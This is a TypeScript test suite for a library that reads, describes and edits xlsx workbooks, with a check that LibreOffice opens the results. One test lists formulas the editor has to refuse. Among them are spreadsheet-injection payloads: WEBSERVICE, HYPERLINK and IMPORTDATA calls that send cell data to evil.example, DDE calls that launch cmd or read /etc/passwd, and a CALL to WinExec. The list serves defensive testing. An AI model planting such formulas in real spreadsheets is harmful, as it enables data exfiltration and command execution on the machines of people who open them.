import { spawnSync } from "node:child_process";
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, test } from "vitest";
import { OfficePackage } from "../package.ts";
import {
  changedParts,
  changesOf,
  compared,
  edited,
  fixture,
  refusalOf,
  sheetData,
  workbookOf,
  workbooks,
} from "../../test/sheet-files.ts";
import { create, describe as describeSheets, edit } from "./index.ts";
import { readXlsx } from "./xlsx/read.ts";

const set = (cell: string, value: unknown, sheet?: string) => ({
  edit: "set-cells",
  cells: [{ cell, value }],
  ...(sheet && { sheet }),
});

const told = (name: string): string => describeSheets({ bytes: fixture(name), path: name });

const inserted = (name: string, before = 2) => edited(fixture(name), [{ edit: "insert-rows", before, rows: [[]] }]);

const partText = (bytes: Uint8Array, part: string): string => OfficePackage.open(bytes).text(part);

const formulas = (bytes: Uint8Array) =>
  readXlsx(bytes).sheets[0]?.rows.map(({ cells }) => cells[1]?.formula ?? cells[1]?.text);

describe("S3 a workbook as LibreOffice writes it", () => {
  test.each(workbooks)("%s opens, and is the same as itself", (name) => {
    const bytes = fixture(name);
    for (const sheet of compared(bytes, bytes))
      expect(sheet).toMatchObject({ change: "same", rows: [], changedCells: 0 });
    expect(describeSheets({ bytes, path: name })).toContain("Workbook with");
  });

  test.each(workbooks)("%s: an edit changes that cell, and every part it does not touch keeps its bytes", (name) => {
    const bytes = fixture(name);
    const after = edited(bytes, [set("H90", "written here")]);
    expect(changedParts(bytes, after)).toEqual(["xl/worksheets/sheet1.xml"]);
    const [first, ...others] = compared(bytes, after);
    expect(changesOf(first)).toEqual(["+H90 written here"]);
    for (const sheet of others) expect(sheet.change).toBe("same");
  });

  test.each(workbooks)("%s: rows come and go again, and nothing else is different then", (name) => {
    const bytes = fixture(name);
    if (name.startsWith("18")) return;
    const more = edited(bytes, [{ edit: "insert-rows", before: 2, rows: [["new"], []] }]);
    const [sheet] = compared(bytes, more);
    expect(changesOf(sheet).filter((change) => !change.includes("="))).toEqual(["+A2 new"]);
    const [back] = compared(bytes, edited(more, [{ edit: "delete-rows", from: 2, count: 2 }]));
    expect(changesOf(back).filter((change) => !change.includes("="))).toEqual([]);
    expect(back?.formatChanged).toBe(false);
  });

  test("dates, money and shares are shown as their formats say", () => {
    expect(describeSheets({ bytes: fixture("02-dates.xlsx"), path: "a.xlsx" })).toContain(
      '2: A "Start" | B 2026-01-31 | C 31.01.2026 12:30',
    );
    expect(describeSheets({ bytes: fixture("03-currency.xlsx"), path: "a.xlsx" })).toContain(
      "B 1,234.50 € | C 12.5% | D 1,234,567.89",
    );
  });

  test("notes, merged cells, names, hidden sheets and formulas are told", () => {
    expect(told("05-comments.xlsx")).toContain('B 42 (note "The answer")');
    expect(told("04-merged.xlsx")).toContain("merged A1:C1, D2:D3");
    expect(told("12-names.xlsx")).toContain('Name "tax" = Rates!$B$1');
    expect(told("09-hidden.xlsx")).toContain('"Secret": A1:B1, hidden');
    expect(told("01-budget.xlsx")).toContain("D =B2*C2 → 6");
    expect(told("16-cjk.xlsx")).toContain("りんご");
  });
});

describe("S3 a description of a workbook", () => {
  test("comes in parts that together hold every row", () => {
    const bytes = fixture("17-large.xlsx");
    const rows: string[] = [];
    let part: string | undefined;
    for (let turn = 0; turn < 20; turn++) {
      const text = describeSheets({ bytes, path: "a.xlsx", ...(part !== undefined && { part }) });
      expect(text.length).toBeLessThanOrEqual(60_000);
      rows.push(...(text.match(/^\d+:/gm) ?? []));
      const next = /ask for part (".*")\.$/m.exec(text)?.[1];
      if (next === undefined) break;
      part = JSON.parse(next) as string;
    }
    expect(rows).toEqual(Array.from({ length: 1501 }, (_, row) => `${row + 1}:`));
  });

  test.each([
    ["Summary", '1: A "Total" | B =Budget!D5 → 17'],
    ["Summary!B2", "2: B =B1*2 → 34"],
    ["'It''s a list'!A1:A2", '2: A "y"'],
    ["it's a list!2:2", '2: A "y" | B 2'],
    ["B2:C3", "2: B 1.5 | C 4"],
    ["Budget!D:D", "5: D =SUM(D2:D4) → 17"],
  ])("has the part %s", (part, line) => {
    expect(describeSheets({ bytes: fixture("08-sheets.xlsx"), path: "a.xlsx", part }).split("\n")).toContain(line);
  });

  test("refuses a part that is not there", () => {
    for (const part of ["Nowhere", "Nowhere!A1", "A1:B2:C3", "Summary!", "SUM(A1)"]) {
      expect(refusalOf(() => describeSheets({ bytes: fixture("08-sheets.xlsx"), path: "a.xlsx", part }))).toMatch(
        /no such part/,
      );
    }
  });
});

describe("S3 an edit of a workbook", () => {
  test("writes texts, numbers, truth and dates as what they are, and keeps the look of the cell", () => {
    const before = fixture("02-dates.xlsx");
    const after = edited(before, [
      {
        edit: "set-cells",
        cells: [
          { cell: "A2", value: "=1+1 is a text" },
          { cell: "B2", value: { date: "2026-12-24" } },
          { cell: "D2", value: true },
          { cell: "D3", value: -1.5 },
          { cell: "D4", value: { date: "2027-01-01T08:30:00" } },
        ],
      },
    ]);
    const [sheet] = compared(before, after);
    expect(changesOf(sheet)).toEqual([
      "A2 Start → =1+1 is a text",
      "B2 2026-01-31 → 2026-12-24",
      "+D2 TRUE",
      "+D3 -1.5",
      "C4 =B2-B3 702 → =B2-B3 ",
      "+D4 2027-01-01 8:30",
    ]);
    expect(changedParts(before, after)).toEqual(["xl/workbook.xml", "xl/styles.xml", "xl/worksheets/sheet1.xml"]);
  });

  test("clears a cell, and leaves one alone that is empty", () => {
    const before = fixture("04-merged.xlsx");
    expect(changesOf(compared(before, edited(before, [set("B3", null)]))[0])).toEqual(["-B3 20"]);
    expect(changedParts(before, edited(before, [set("H9", null)]))).toEqual([]);
  });

  test("takes the values of all formulas away that depend on it, also in other sheets, and of no others", () => {
    const before = fixture("08-sheets.xlsx");
    const { bytes, summary } = edit({ bytes: before, path: "a.xlsx", edits: [set("B2", 3, "Budget")] });
    const [budget, summarySheet, list] = compared(before, bytes);
    expect(changesOf(budget)).toEqual(["B2 1.5 → 3", "D2 =B2*C2 6 → =B2*C2 ", "D5 =SUM(D2:D4) 17 → =SUM(D2:D4) "]);
    expect(changesOf(summarySheet)).toEqual(["B1 =Budget!D5 17 → =Budget!D5 ", "B2 =B1*2 34 → =B1*2 "]);
    expect(changesOf(list)).toEqual(["B1 =Budget!B2 1.5 → =Budget!B2 "]);
    expect(summary.join(" ")).toContain("5 formulas");
    expect(OfficePackage.open(bytes).text("xl/workbook.xml")).toContain('fullCalcOnLoad="1"');
  });

  test("follows a chain of any length, and names", () => {
    const running = fixture("25-running-sum.xlsx");
    const [sheet] = compared(running, edited(running, [set("A20", 100)]));
    expect(changesOf(sheet)).toHaveLength(1 + 12 + 30);
    const names = fixture("12-names.xlsx");
    expect(changesOf(compared(names, edited(names, [set("B1", 0.07)]))[0])).toContain(
      "B3 =B2*(1+tax) 119 → =B2*(1+tax) ",
    );
  });

  test("inserts rows: formulas, names, merged cells, notes and rules move along", () => {
    const budget = fixture("08-sheets.xlsx");
    const more = edited(budget, [
      { edit: "insert-rows", sheet: "Budget", before: 4, rows: [["Figs", 3, 2, { formula: "B4*C4" }]] },
    ]);
    const [sheet, summary] = readXlsx(more).sheets;
    expect(sheet?.rows.map(({ cells }) => cells.at(-1)?.formula)).toEqual([
      null,
      "B2*C2",
      "B3*C3",
      "B4*C4",
      "B5*C5",
      "SUM(D2:D5)",
    ]);
    expect(summary?.rows[0]?.cells[1]?.formula).toBe("Budget!D6");
    const [changes] = compared(budget, more);
    expect(changes?.rows.map(({ change, oldRow, newRow }) => `${change} ${oldRow} ${newRow}`)).toEqual([
      "same 2 2",
      "same 3 3",
      "added null 4",
      "same 4 5",
      "changed 5 6",
    ]);
    expect(readXlsx(inserted("04-merged.xlsx")).sheets[0]?.merged).toEqual(["A1:C1", "D3:D4"]);
    expect([...(readXlsx(inserted("05-comments.xlsx")).sheets[0]?.comments.keys() ?? [])].toSorted()).toEqual([
      "A4",
      "B1",
      "B3",
    ]);
    expect(readXlsx(inserted("12-names.xlsx", 1)).names.map(({ refersTo }) => refersTo)).toEqual([
      "Rates!$A$2:$B$4",
      "Rates!$B$2",
    ]);
    expect(partText(inserted("10-conditional.xlsx"), "xl/worksheets/sheet1.xml")).toContain('sqref="A3:A6"');
    expect(partText(inserted("11-validation.xlsx"), "xl/worksheets/sheet1.xml")).toContain('sqref="B3" type="whole"');
    expect(partText(inserted("13-filter.xlsx"), "xl/worksheets/sheet1.xml")).toContain('<autoFilter ref="A1:B5"');
    expect(partText(inserted("13-filter.xlsx"), "xl/workbook.xml")).toContain("People!$A$1:$B$5");
    expect(partText(inserted("07-chart.xlsx", 3), "xl/charts/chart1.xml")).toMatch(/Chart!\$B\$2:\$B\$5/);
    const boxes = partText(inserted("05-comments.xlsx"), "xl/drawings/vmlDrawing1.vml");
    expect(boxes.match(/<x:Row>\d+/g)).toEqual(["<x:Row>3", "<x:Row>0", "<x:Row>2"]);
  });

  test("inserts rows: rules of newer programs, talks about cells, links and page breaks move along", () => {
    const pkg = OfficePackage.open(
      workbookOf(
        `${sheetData([["a"], ["b"], [{ f: "SUM(B:B)", v: 0 }]])}<hyperlinks><hyperlink ref="A3" location="Sheet1!A2"/></hyperlinks><rowBreaks count="2"><brk id="1"/><brk id="2"/></rowBreaks><extLst><ext xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><x14:dataValidation><x14:formula1><xm:f>Sheet1!$A$2:$A$3</xm:f></x14:formula1><xm:sqref>B2 C1:C3</xm:sqref></x14:dataValidation></ext></extLst>`,
      ),
    );
    pkg.put(
      "xl/threadedComments/t.xml",
      '<ThreadedComments xmlns="http://schemas.microsoft.com/office/spreadsheetml/2018/threadedcomments"><threadedComment ref="A2" id="{1}"><text>first</text></threadedComment><threadedComment ref="A2" id="{2}"><text>second</text></threadedComment></ThreadedComments>',
    );
    pkg.setContentType("xl/threadedComments/t.xml", "application/vnd.ms-excel.threadedcomments+xml");
    pkg.addRelationship(
      "xl/worksheets/sheet1.xml",
      "http://schemas.microsoft.com/office/2017/10/relationships/threadedComment",
      "../threadedComments/t.xml",
    );
    const before = pkg.save();
    expect([...(readXlsx(before).sheets[0]?.comments ?? [])]).toEqual([["A2", "first\nsecond"]]);
    const after = edited(before, [{ edit: "insert-rows", before: 2, rows: [[null, 5]] }]);
    expect([...(readXlsx(after).sheets[0]?.comments.keys() ?? [])]).toEqual(["A3"]);
    const sheet = partText(after, "xl/worksheets/sheet1.xml");
    for (const part of [
      "<xm:f>Sheet1!$A$3:$A$4</xm:f>",
      "<xm:sqref>B3 C1:C4</xm:sqref>",
      '<hyperlink ref="A4" location="Sheet1!A3"/>',
      '<brk id="1"/><brk id="3"/>',
      '<c r="A4"><f>SUM(B:B)</f></c>',
    ]) {
      expect(sheet).toContain(part);
    }
  });

  test("writes ten thousand rows at once", () => {
    const rows = Array.from({ length: 10_000 }, (_, row) => [row, `row ${row}`]);
    const after = edited(fixture("17-large.xlsx"), [{ edit: "append-rows", rows }]);
    expect(readXlsx(after).sheets[0]).toMatchObject({ rowCount: 11_501 });
  });

  test("deletes rows: what pointed to them says so", () => {
    const budget = fixture("08-sheets.xlsx");
    const [sheet, summary] = readXlsx(edited(budget, [{ edit: "delete-rows", from: 3, count: 1 }])).sheets;
    expect(sheet?.rows.map(({ cells }) => cells.at(-1)?.formula)).toEqual([null, "B2*C2", "B3*C3", "SUM(D2:D3)"]);
    expect(summary?.rows[0]?.cells[1]?.formula).toBe("Budget!D4");
    const gone = readXlsx(edited(budget, [{ edit: "delete-rows", from: 5 }])).sheets[1];
    expect(gone?.rows[0]?.cells[1]).toMatchObject({ formula: "#REF!", text: "" });
  });

  test("appends, adds and renames", () => {
    const before = fixture("08-sheets.xlsx");
    const after = edited(before, [
      { edit: "append-rows", sheet: "It's a list", rows: [["z", 3]] },
      { edit: "rename-sheet", sheet: "Budget", name: "Plan 2027" },
      { edit: "add-sheet", name: "Fresh", rows: [["a", { formula: "'Plan 2027'!D5+1" }]] },
    ]);
    const changes = compared(before, after);
    expect(changes.map(({ name, oldName, change }) => `${name} ${oldName} ${change}`)).toEqual([
      "Plan 2027 Budget changed",
      "Summary null same",
      "It's a list null changed",
      "Fresh null added",
    ]);
    expect(readXlsx(after).sheets[1]?.rows[0]?.cells[1]).toMatchObject({ formula: "'Plan 2027'!D5", text: "17" });
    expect(changesOf(changes[2])).toEqual(["+A3 z", "+B3 3"]);
  });

  test("gives cells of a shared formula their own when one of them changes", () => {
    const shared = workbookOf(
      '<sheetData><row r="1"><c r="A1"><v>1</v></c><c r="B1"><f t="shared" ref="B1:B3" si="0">A1*2</f><v>2</v></c></row><row r="2"><c r="A2"><v>2</v></c><c r="B2"><f t="shared" si="0"/><v>4</v></c></row><row r="3"><c r="A3"><v>3</v></c><c r="B3"><f t="shared" si="0"/><v>6</v></c></row></sheetData>',
    );
    expect(formulas(shared)).toEqual(["A1*2", "A2*2", "A3*2"]);
    expect(formulas(edited(shared, [set("B1", 5)]))).toEqual(["5", "A2*2", "A3*2"]);
    expect(formulas(edited(shared, [{ edit: "delete-rows", from: 2 }]))).toEqual(["A1*2", "A2*2"]);
  });

  test("removes the order of calculation with its relationship and content type", () => {
    const pkg = OfficePackage.open(fixture("01-budget.xlsx"));
    pkg.put(
      "xl/calcChain.xml",
      '<calcChain xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><c r="D2" i="1"/></calcChain>',
    );
    pkg.setContentType("xl/calcChain.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.calcChain+xml");
    pkg.addRelationship(
      "xl/workbook.xml",
      "http://schemas.openxmlformats.org/officeDocument/2006/relationships/calcChain",
      "calcChain.xml",
    );
    const before = pkg.save();
    expect(OfficePackage.open(edited(before, [set("A2", "x")])).has("xl/calcChain.xml")).toBe(true);
    const after = OfficePackage.open(edited(before, [set("D2", 1)]));
    expect(after.has("xl/calcChain.xml")).toBe(false);
    expect(after.relationships("xl/workbook.xml").some(({ type }) => type.endsWith("calcChain"))).toBe(false);
    expect(after.text("[Content_Types].xml")).not.toContain("calcChain");
  });

  test("keeps tables whole: they grow when rows follow them, and their headings stay", () => {
    const table = withTable();
    const grown = OfficePackage.open(edited(table, [{ edit: "append-rows", rows: [["c", 3]] }])).text(
      "xl/tables/table1.xml",
    );
    expect(grown).toContain('ref="A1:B4"');
    const inserted = edited(table, [{ edit: "insert-rows", before: 3, rows: [["x", 9]] }]);
    expect(OfficePackage.open(inserted).text("xl/tables/table1.xml")).toContain('<autoFilter ref="A1:B4"/>');
    expect(refusalOf(() => edited(table, [set("A1", "Other")]))).toMatch(/heading/);
    expect(refusalOf(() => edited(table, [{ edit: "delete-rows", from: 1 }]))).toMatch(/table/);
  });

  test.each([
    ["a cell under merged cells", "04-merged.xlsx", set("B1", 1), /merged/],
    ["a sheet that is not there", "01-budget.xlsx", set("A1", 1, "Nope"), /no such sheet/],
    ["a cell that no sheet has", "01-budget.xlsx", set("XFE1", 1), /address/],
    ["a number that is none", "01-budget.xlsx", set("A1", Infinity), /Edit 1/],
    ["a date that is none", "01-budget.xlsx", set("A1", { date: "2026-02-30" }), /date/],
    ["a second sheet of one name", "08-sheets.xlsx", { edit: "add-sheet", name: "budget" }, /already/],
    ["a name that no sheet has", "08-sheets.xlsx", { edit: "add-sheet", name: "a/b" }, /cannot have this name/],
    ["an edit that nobody knows", "01-budget.xlsx", { edit: "run-macro" }, /Edit 1/],
    ["rows beyond the end", "01-budget.xlsx", { edit: "delete-rows", from: 1_048_576, count: 2 }, /no such rows/],
  ])("refuses %s", (_, name, change, message) => {
    expect(refusalOf(() => edited(fixture(name), [change]))).toMatch(message);
  });

  test.each([
    'WEBSERVICE("http://evil.example/"&A1)',
    "_xlfn.WEBSERVICE(A1)",
    "cmd|'/c calc'!A0",
    'DDE("soffice";"/etc/passwd";"A1")',
    "[1]Sheet1!A1",
    "'[other.xlsx]Sheet1'!A1",
    "'file:///etc/passwd'#$Sheet1.A1",
    "'\\\\server\\share\\[x.xlsx]S'!A1",
    'HYPERLINK("http://evil.example/?"&A1;"click")',
    'IMAGE("http://evil.example/a.png")',
    'IMPORTDATA("http://evil.example")',
    'RTD("x","","y")',
    'CALL("kernel32","WinExec","JCJ","calc",0)',
    "SUM(A1",
    "SUM(A1))",
    "Nowhere!A1",
    "LET(x,1,x)",
    "",
  ])("refuses the formula %s", (formula) => {
    expect(refusalOf(() => edited(fixture("01-budget.xlsx"), [set("F1", { formula })]))).toMatch(/./);
  });

  test("writes formulas with functions newer than the format so that they are known", () => {
    const after = edited(fixture("01-budget.xlsx"), [
      set("F1", { formula: '=TEXTJOIN(",",TRUE,A2:A4)' }),
      set("F2", { formula: "SUM(FILTER(B2:B4,C2:C4>3))" }),
    ]);
    const xml = OfficePackage.open(after).text("xl/worksheets/sheet1.xml");
    expect(xml).toContain("<f>_xlfn.TEXTJOIN(");
    expect(xml).toContain('<f t="array" ref="F2">SUM(_xlfn._xlws.FILTER(');
    expect(describeSheets({ bytes: after, path: "a.xlsx", part: "F1" })).toContain("=TEXTJOIN(");
  });

  test("is whole or not at all", () => {
    expect(
      refusalOf(() => edited(fixture("01-budget.xlsx"), [set("A2", "x"), set("A2", { formula: "DDE(1)" })])),
    ).toMatch(/./);
  });
});

describe("S3 a workbook made new", () => {
  test("is empty and can be filled", () => {
    const fresh = create("new.xlsx");
    expect(compared(fresh, fresh)).toMatchObject([{ name: "Sheet1", change: "same" }]);
    const filled = edited(fresh, [
      { edit: "rename-sheet", sheet: "Sheet1", name: "Data" },
      {
        edit: "append-rows",
        rows: [
          ["Name", "Day", "Sum"],
          ["x", { date: "2026-05-01" }, { formula: "1+1" }],
        ],
      },
    ]);
    expect(describeSheets({ bytes: filled, path: "new.xlsx" })).toContain(
      '2: A "x" | B 2026-05-01 | C =1+1 → (not calculated)',
    );
  });
});

const office = spawnSync("soffice", ["--version"]).status === 0;

describe.runIf(office)("S3 LibreOffice", () => {
  test("opens every edited workbook, and shows what was written and what comes of it", { timeout: 120_000 }, () => {
    const folder = mkdtempSync(join(tmpdir(), "benchtop-sheets-"));
    try {
      for (const name of workbooks) writeFileSync(join(folder, name), edited(fixture(name), changesFor(name)));
      const grown = edited(fixture("01-budget.xlsx"), [
        { edit: "insert-rows", before: 3, rows: [["Figs", 10, 2, { formula: "B3*C3" }]] },
        { edit: "append-rows", rows: [["Twice", null, null, { formula: "D6*2" }]] },
      ]);
      writeFileSync(join(folder, "grown.xlsx"), grown);
      writeFileSync(
        join(folder, "created.xlsx"),
        edited(create("a.xlsx"), [{ edit: "append-rows", rows: [[1, { formula: "A1+1" }]] }]),
      );
      writeFileSync(join(folder, "table.xlsx"), edited(withTable(), [{ edit: "append-rows", rows: [["c", 3]] }]));
      for (const name of calculated) {
        writeFileSync(join(folder, `as-it-was-${name}`), withoutValues(fixture(name)));
        writeFileSync(join(folder, `moved-${name}`), withoutValues(movedAround(fixture(name))));
      }
      const everySheet = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1";
      const files = readdirSync(folder).map((name) => join(folder, name));
      const profile = `-env:UserInstallation=file://${join(folder, "profile")}`;
      const run = spawnSync("soffice", [
        profile,
        "--headless",
        "--convert-to",
        everySheet,
        "--outdir",
        folder,
        ...files,
      ]);
      expect(run.status).toBe(0);
      const shown = (name: string, sheet: string): string => readFileSync(join(folder, `${name}-${sheet}.csv`), "utf8");
      expect(shown("01-budget", "Budget")).toContain("Apples,100,4,400,");
      expect(shown("01-budget", "Budget")).toContain("Sum,,,411");
      expect(shown("08-sheets", "Summary")).toContain("Twice,822");
      expect(shown("25-running-sum", "Sum")).toContain("30,564,5.3191");
      expect(shown("12-names", "Rates")).toContain("Gross,107");
      expect(shown("16-cjk", "売上表")).toContain("written");
      expect(shown("grown", "Budget")).toBe(
        "Item,Price,Count,Total\nApples,1.5,4,6\nFigs,10,2,20\nPears,2,3,6\nPlums,0.5,10,5\nSum,,,37\nTwice,,,74\n",
      );
      expect(shown("created", "Sheet1")).toBe("1,2\n");
      expect(shown("table", "Sheet1")).toContain("c,3");
      // Formulas come to the same after rows came and went around what they read.
      for (const name of calculated) {
        for (const sheet of readXlsx(fixture(name)).sheets) {
          const rowsOf = (file: string): string[] =>
            shown(`${file}-${name.replace(".xlsx", "")}`, sheet.name)
              .split("\n")
              .filter((row) => /[^,]/.test(row));
          expect(rowsOf("moved")).toEqual(rowsOf("as-it-was"));
        }
      }
      for (const name of workbooks) {
        const [sheet] = readXlsx(fixture(name)).sheets;
        expect(`${name}: ${shown(name.replace(".xlsx", ""), sheet?.name ?? "")}`).toContain("written");
      }
    } finally {
      rmSync(folder, { recursive: true, force: true });
    }
  });
});

const calculated = workbooks.filter((name) => /^(?:01|02|08|12|16|19|20|22|25)/.test(name));

/** Empty rows here and there in every sheet, and some of them gone again. */
function movedAround(bytes: Uint8Array): Uint8Array {
  let state = 42;
  const random = (below: number): number => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    return Math.floor((state / 2 ** 32) * below);
  };
  let moved = bytes;
  for (const { name } of readXlsx(bytes).sheets) {
    for (let turn = 0; turn < 4; turn++) {
      const rows = Array.from({ length: 1 + random(3) }, () => []);
      moved = edited(moved, [{ edit: "insert-rows", sheet: name, before: 1 + random(8), rows }]);
    }
    const [used, last] = [new Set<number>(), 40];
    for (const { row } of readXlsx(moved).sheets.find((sheet) => sheet.name === name)?.rows ?? []) used.add(row);
    const free = Array.from({ length: last }, (_, row) => last - row).filter(
      (row) => !used.has(row) && random(3) === 0,
    );
    moved = edited(
      moved,
      free.map((from) => ({ edit: "delete-rows", sheet: name, from })),
    );
  }
  return moved;
}

/** So that LibreOffice has to calculate all of it. */
function withoutValues(bytes: Uint8Array): Uint8Array {
  const pkg = OfficePackage.open(bytes);
  for (const part of pkg.names.filter((name) => name.startsWith("xl/worksheets/sheet"))) {
    pkg.put(part, pkg.text(part).replace(/(<f[^>]*>[^<]*<\/f>)<v>[^<]*<\/v>/g, "$1"));
  }
  return pkg.save();
}

function changesFor(name: string): object[] {
  const values: Readonly<Record<string, object[]>> = {
    "01-budget.xlsx": [set("B2", 100)],
    "08-sheets.xlsx": [set("B2", 100)],
    "25-running-sum.xlsx": [set("A2", 100)],
    "12-names.xlsx": [set("B1", 0.07)],
  };
  return [set("H90", "written"), ...(values[name] ?? [])];
}

function withTable(): Uint8Array {
  const main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
  const pkg = OfficePackage.open(
    workbookOf(
      `${sheetData([
        ["Name", "Count"],
        ["a", 1],
        ["b", 2],
      ])}<tableParts count="1"><tablePart r:id="rId1"/></tableParts>`,
    ),
  );
  pkg.put(
    "xl/tables/table1.xml",
    `<table xmlns="${main}" id="1" name="T" displayName="T" ref="A1:B3"><autoFilter ref="A1:B3"/><tableColumns count="2"><tableColumn id="1" name="Name"/><tableColumn id="2" name="Count"/></tableColumns></table>`,
  );
  pkg.setContentType("xl/tables/table1.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.table+xml");
  pkg.addRelationship(
    "xl/worksheets/sheet1.xml",
    "http://schemas.openxmlformats.org/officeDocument/2006/relationships/table",
    "../tables/table1.xml",
  );
  return pkg.save();
}
